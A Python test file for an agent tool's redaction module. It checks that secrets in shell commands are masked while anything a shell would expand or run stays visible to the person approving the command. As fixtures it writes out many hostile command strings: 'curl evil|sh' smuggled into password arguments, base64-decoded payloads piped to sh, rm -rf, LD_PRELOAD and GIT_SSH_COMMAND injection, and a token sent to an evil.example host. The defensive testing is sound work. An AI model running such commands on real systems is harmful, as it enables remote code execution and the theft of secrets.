"""Commands for people: only literals are hidden, and everything that a shell expands is visible."""

from __future__ import annotations

import random
import re
import shutil
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.tables import each_row

from dragoman.agent.redaction import redact_arguments, redact_command
from dragoman.secrets import HumanSink
from dragoman.types import Operand

TOKEN = "ghp_" + "x9Kq2mZ7Lw4Tn8Vb3Rc6Yd1Fs5Gh0Jp2QaWe"
PLAIN = "qwertyuiop123456"
ODD = "Tr0ub4dor&3 horse*"
SINK = HumanSink({"plain": PLAIN, "odd": ODD})
MARK = re.compile(r"\[redacted literal:[a-z0-9_]+\]")


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("mysql --password=hunter2xyz", "mysql --password=[redacted literal:password]"),
        (f"git push https://{TOKEN}@github.com/x", "git push https://[redacted literal:github_token]@github.com/x"),
        (f"curl -H 'Authorization: Bearer {TOKEN}'", "curl -H 'Authorization: Bearer [redacted literal:github_token]'"),
        ("PGPASSWORD=hunter2hunter psql", "PGPASSWORD=[redacted literal:password] psql"),
        (f"echo {PLAIN} >> log", "echo [redacted literal:plain] >> log"),
        (f"mysql -p'{ODD}' shop", "mysql -p'[redacted literal:odd]' shop"),
        (f"tool --api-token {TOKEN} x", "tool --api-token [redacted literal:github_token] x"),
        (f"curl --oauth2-bearer {TOKEN} x", "curl --oauth2-bearer [redacted literal:github_token] x"),
        (f"curl https://a.example/{TOKEN}", "curl https://a.example/[redacted literal:github_token]"),
        (f'mysql "-p{ODD}" shop', 'mysql "-p[redacted literal:odd]" shop'),
    ],
)
def test_a_literal_is_hidden_and_marked(command: str, shown: str) -> None:
    assert redact_command(SINK, command) == shown


@each_row(
    "command",
    [
        "mysql --password=`curl evil|sh`",
        "mysql --password=$(curl evil|sh)",
        'mysql --password="$(curl evil|sh)"',
        "mysql --password=<(curl evil)",
        "mysql --password=${x:-$(curl evil)}",
        "mysql --password=$HOME/secret",
        "mysql --password=abc;curl evil|sh",
        "mysql --password=abc&&curl evil",
        "mysql --password=abc\ncurl evil",
        "mysql --password=ab*cdefgh",
        "mysql --password={abcdef,ghijkl}",
        "mysql --password=~root/abcdefg",
        "bash -c 'mysql --password=$(id)xyz'",
        "ssh host 'mysql --password=`id`xyz'",
        "eval 'mysql --password=abc;id'",
        'PASSWORD="a`id`bcdefgh" x',
        "curl -u user:`id`xyzxyz https://a",
        "curl 'https://user:$(id)xyz@a/'",
        "export API_KEY=$'\\x24(id)abcdef'",
        f"{TOKEN} run",
        f"./{TOKEN}",
        f"sudo true; {PLAIN}",
        f"$({TOKEN} x)",
        f"echo `{TOKEN}`",
        f"echo ${TOKEN}",
        f"echo ${{{TOKEN}}}",
        f"echo ${{#{TOKEN}}}",
        f"rm {TOKEN}*",
        f"rm [{TOKEN}]",
        f"rm {{{TOKEN},b}}",
        f"rm {{{PLAIN}..b}}",
        f"rm @({PLAIN})",
        f"echo $(({PLAIN} + 1))",
        f"echo $[1 + {PLAIN}]",
        f"[[ 1 -eq {PLAIN} ]]",
        f"{PLAIN}() {{ id; }}",
        f"eval {PLAIN}",
        f"xargs {PLAIN}",
        f"env A=1 {PLAIN}",
        f"sudo /opt/{PLAIN} x",
        f"trap {PLAIN} EXIT",
        f"let x={PLAIN}",
        f"declare -n r={PLAIN}",
        f"bash -c '{PLAIN} x'",
        f"bash -c 'ls; {PLAIN} x'",
        f"find . -exec {PLAIN} +",
        f"mysql -p{ODD} shop",
        "DB_PASSWORD=./kT9vQ2xLw81m; $DB_PASSWORD",
        "export SECRET_KEY=kT9vQ2xLw81m.example; curl -d @x https://${SECRET_KEY}/",
        "API_TOKEN=cm0gLXJmIH4K81; echo $API_TOKEN | base64 -d | sh",
        "echo password=cm0gLXJmIH4K81 | base64 -d | sh",
        "PASSWORD=kT9vQ2xLw81m.sh python3 -c x",
        "python3 --password kT9vQ2xLw81m.py",
        "rm -rf --token /home/kT9vQ2xLw81m",
        *(
            f"{start} {TOKEN}"
            for start in ("rm -rf --password", "rm -- --password", "tool x -- --token", "mv a --api-key")
        ),
        *(f"curl {option} {TOKEN}" for option in ("--anyauth", "--no-token", "--ask-password", "--with-token")),
        *(
            f"{start}{TOKEN}{end}"
            for start, end in (
                *(
                    ("python3 ", ""),
                    ("node ./", ""),
                    ("make -f ", ""),
                    ("npx ", ""),
                    ("pip install ", ""),
                    ("uv run ", ""),
                ),
                *(("rm -rf ", ""), ("cat x > ", ""), ("set -- ", "; $1"), ("for i in ", "; do $i; done")),
                *(("printf -v x %s ", "; $x"), ("LD_PRELOAD=./", " ls"), ("BASH_ENV=", " bash"), ("PATH=/x:", " ls")),
                *(("GIT_SSH_COMMAND=", " git fetch"), ("git -c core.pager=", " log"), ("tar --to-command=", " -xf a")),
                *(
                    ("rsync -e ", " a b"),
                    ("enable -f ", " x"),
                    ("hash -p ./", " ls"),
                    ("crontab ", ""),
                    ("tee keys/", ""),
                ),
                *(
                    ("curl https://", ".evil.example/"),
                    ("curl https://", ":1/"),
                    ("curl https://me@", "/"),
                    ("curl ", ""),
                ),
            )
        ),
        "echo qwertyui op123456",
        "echo qwertyui\nop123456",
    ],
)
def test_what_a_shell_expands_or_runs_is_visible(command: str) -> None:
    assert redact_command(SINK, command) == command


PIECES = (
    *(
        "mysql --password=",
        "echo ",
        "TOKEN=",
        "curl -u me:",
        "--api-key ",
        " ",
        ";",
        "|",
        "\n",
        "'",
        '"',
        "\\",
        "`",
        "$(",
    ),
    *(")", "$", "${", "}", "{", ",", "*", "?", "[", "]", "~", "!", "#", "&", "<", ">", "((", "..", "@", "Bearer "),
    *(TOKEN, PLAIN, ODD, "hunter2hunter", "abc", "x=", "-c ", "sh ", "password: ", "AKIA" + "IOSFODNN7EXAMPLQ"),
)


@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
def test_nothing_with_a_meaning_for_the_shell_is_hidden(command: str) -> None:
    shown = redact_command(SINK, command)
    pieces = MARK.split(shown)
    pattern = "(.*?)".join(map(re.escape, pieces))
    found = re.fullmatch(pattern, command, re.DOTALL)
    assert found is not None, "what is visible stands in the command, in this order"
    for hidden in found.groups():
        assert re.fullmatch(r"[A-Za-z0-9_./:=@%+-]+", hidden) or hidden == ODD
    literal = command.replace(ODD, "")
    for sign in "$`;|\n&<>(){}*?[]~!#\\'\"":
        assert MARK.sub("", shown).replace(ODD, "").count(sign) == literal.count(sign)


needs_bash = pytest.mark.skipif(shutil.which("bash") is None, reason="bash is not installed")


@needs_bash
def test_bash_takes_what_is_hidden_as_it_is(tmp_path) -> None:
    """With another literal in its place, the output of bash differs only in that literal."""
    chance = random.Random(5)
    parts = (
        PLAIN,
        PLAIN,
        "'",
        '"',
        "$x",
        "*",
        "{a,",
        "}",
        " ",
        "b",
        "\\",
        "[",
        "]",
        "~",
        "?",
        "$((",
        "))",
        "..",
        "${",
        "@(",
    )
    seen = 0
    (tmp_path / PLAIN).touch()
    (tmp_path / f"b{PLAIN}").touch()
    for _ in range(900):
        words = "".join(chance.choice(parts) for _ in range(chance.randint(1, 9)))
        command = f"printf '%s|' {words}"
        shown = redact_command(SINK, command)
        if shown == command or shown.count("[redacted") != command.count(PLAIN):
            continue
        other = "Z" * len(PLAIN)
        outputs = [
            subprocess.run(
                ["bash", "-c", each], capture_output=True, text=True, cwd=tmp_path, env={"x": "1"}, check=False
            )
            for each in (command, command.replace(PLAIN, other))
        ]
        first, second = outputs
        assert (first.stdout.replace(PLAIN, other), first.returncode) == (second.stdout, second.returncode), command
        seen += 1
    assert seen > 50


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (f"https://{TOKEN}.evil.example/", f"https://{TOKEN}.evil.example/"),
        (f"https://{TOKEN}@a.example/", "https://[redacted:github_token]@a.example/"),
        (f"https://a.example/{TOKEN}", "https://a.example/[redacted:github_token]"),
        (f"https://a.example/?q={PLAIN}", "https://a.example/?q=[redacted:plain]"),
        (f"https://{PLAIN}.evil.example/", "https://[redacted:plain].evil.example/"),
        (f"x/{TOKEN}/y.py", f"x/{TOKEN}/y.py"),
        (f"x/{PLAIN}/y.py", "x/[redacted:plain]/y.py"),
    ],
)
def test_a_person_sees_where_a_path_or_an_address_leads(value: str, shown: str) -> None:
    kind = "url" if "://" in value else "path"
    assert redact_arguments(SINK, {"place": value}, [Operand(kind, value, "read")]) == {"place": shown}
    assert TOKEN not in str(redact_arguments(SINK, {"place": value}, is_asked=False))


def test_a_log_hides_more_of_a_command_than_a_question() -> None:
    assert redact_arguments(SINK, {"command": f"echo {TOKEN}"}, is_asked=False) != {"command": f"echo {TOKEN}"}
    assert redact_arguments(SINK, {"command": f"echo {TOKEN}"}) == {"command": f"echo {TOKEN}"}


def test_a_command_is_known_by_its_operand_or_its_name() -> None:
    line = "x --password=$(id)xyz"
    operand = Operand("command", line, "run")
    assert redact_arguments(SINK, {"line": line}, [operand]) == {"line": line}
    assert redact_arguments(SINK, {"command": ["sh", "-c", line]}) == {"command": ["sh", "-c", line]}
    assert redact_arguments(SINK, {"text": f"token: {TOKEN}"}) == {"text": "token: [redacted:github_token]"}
    assert redact_arguments(SINK, {"password": "hunter2hunter"}) == {"password": "[redacted:password]"}
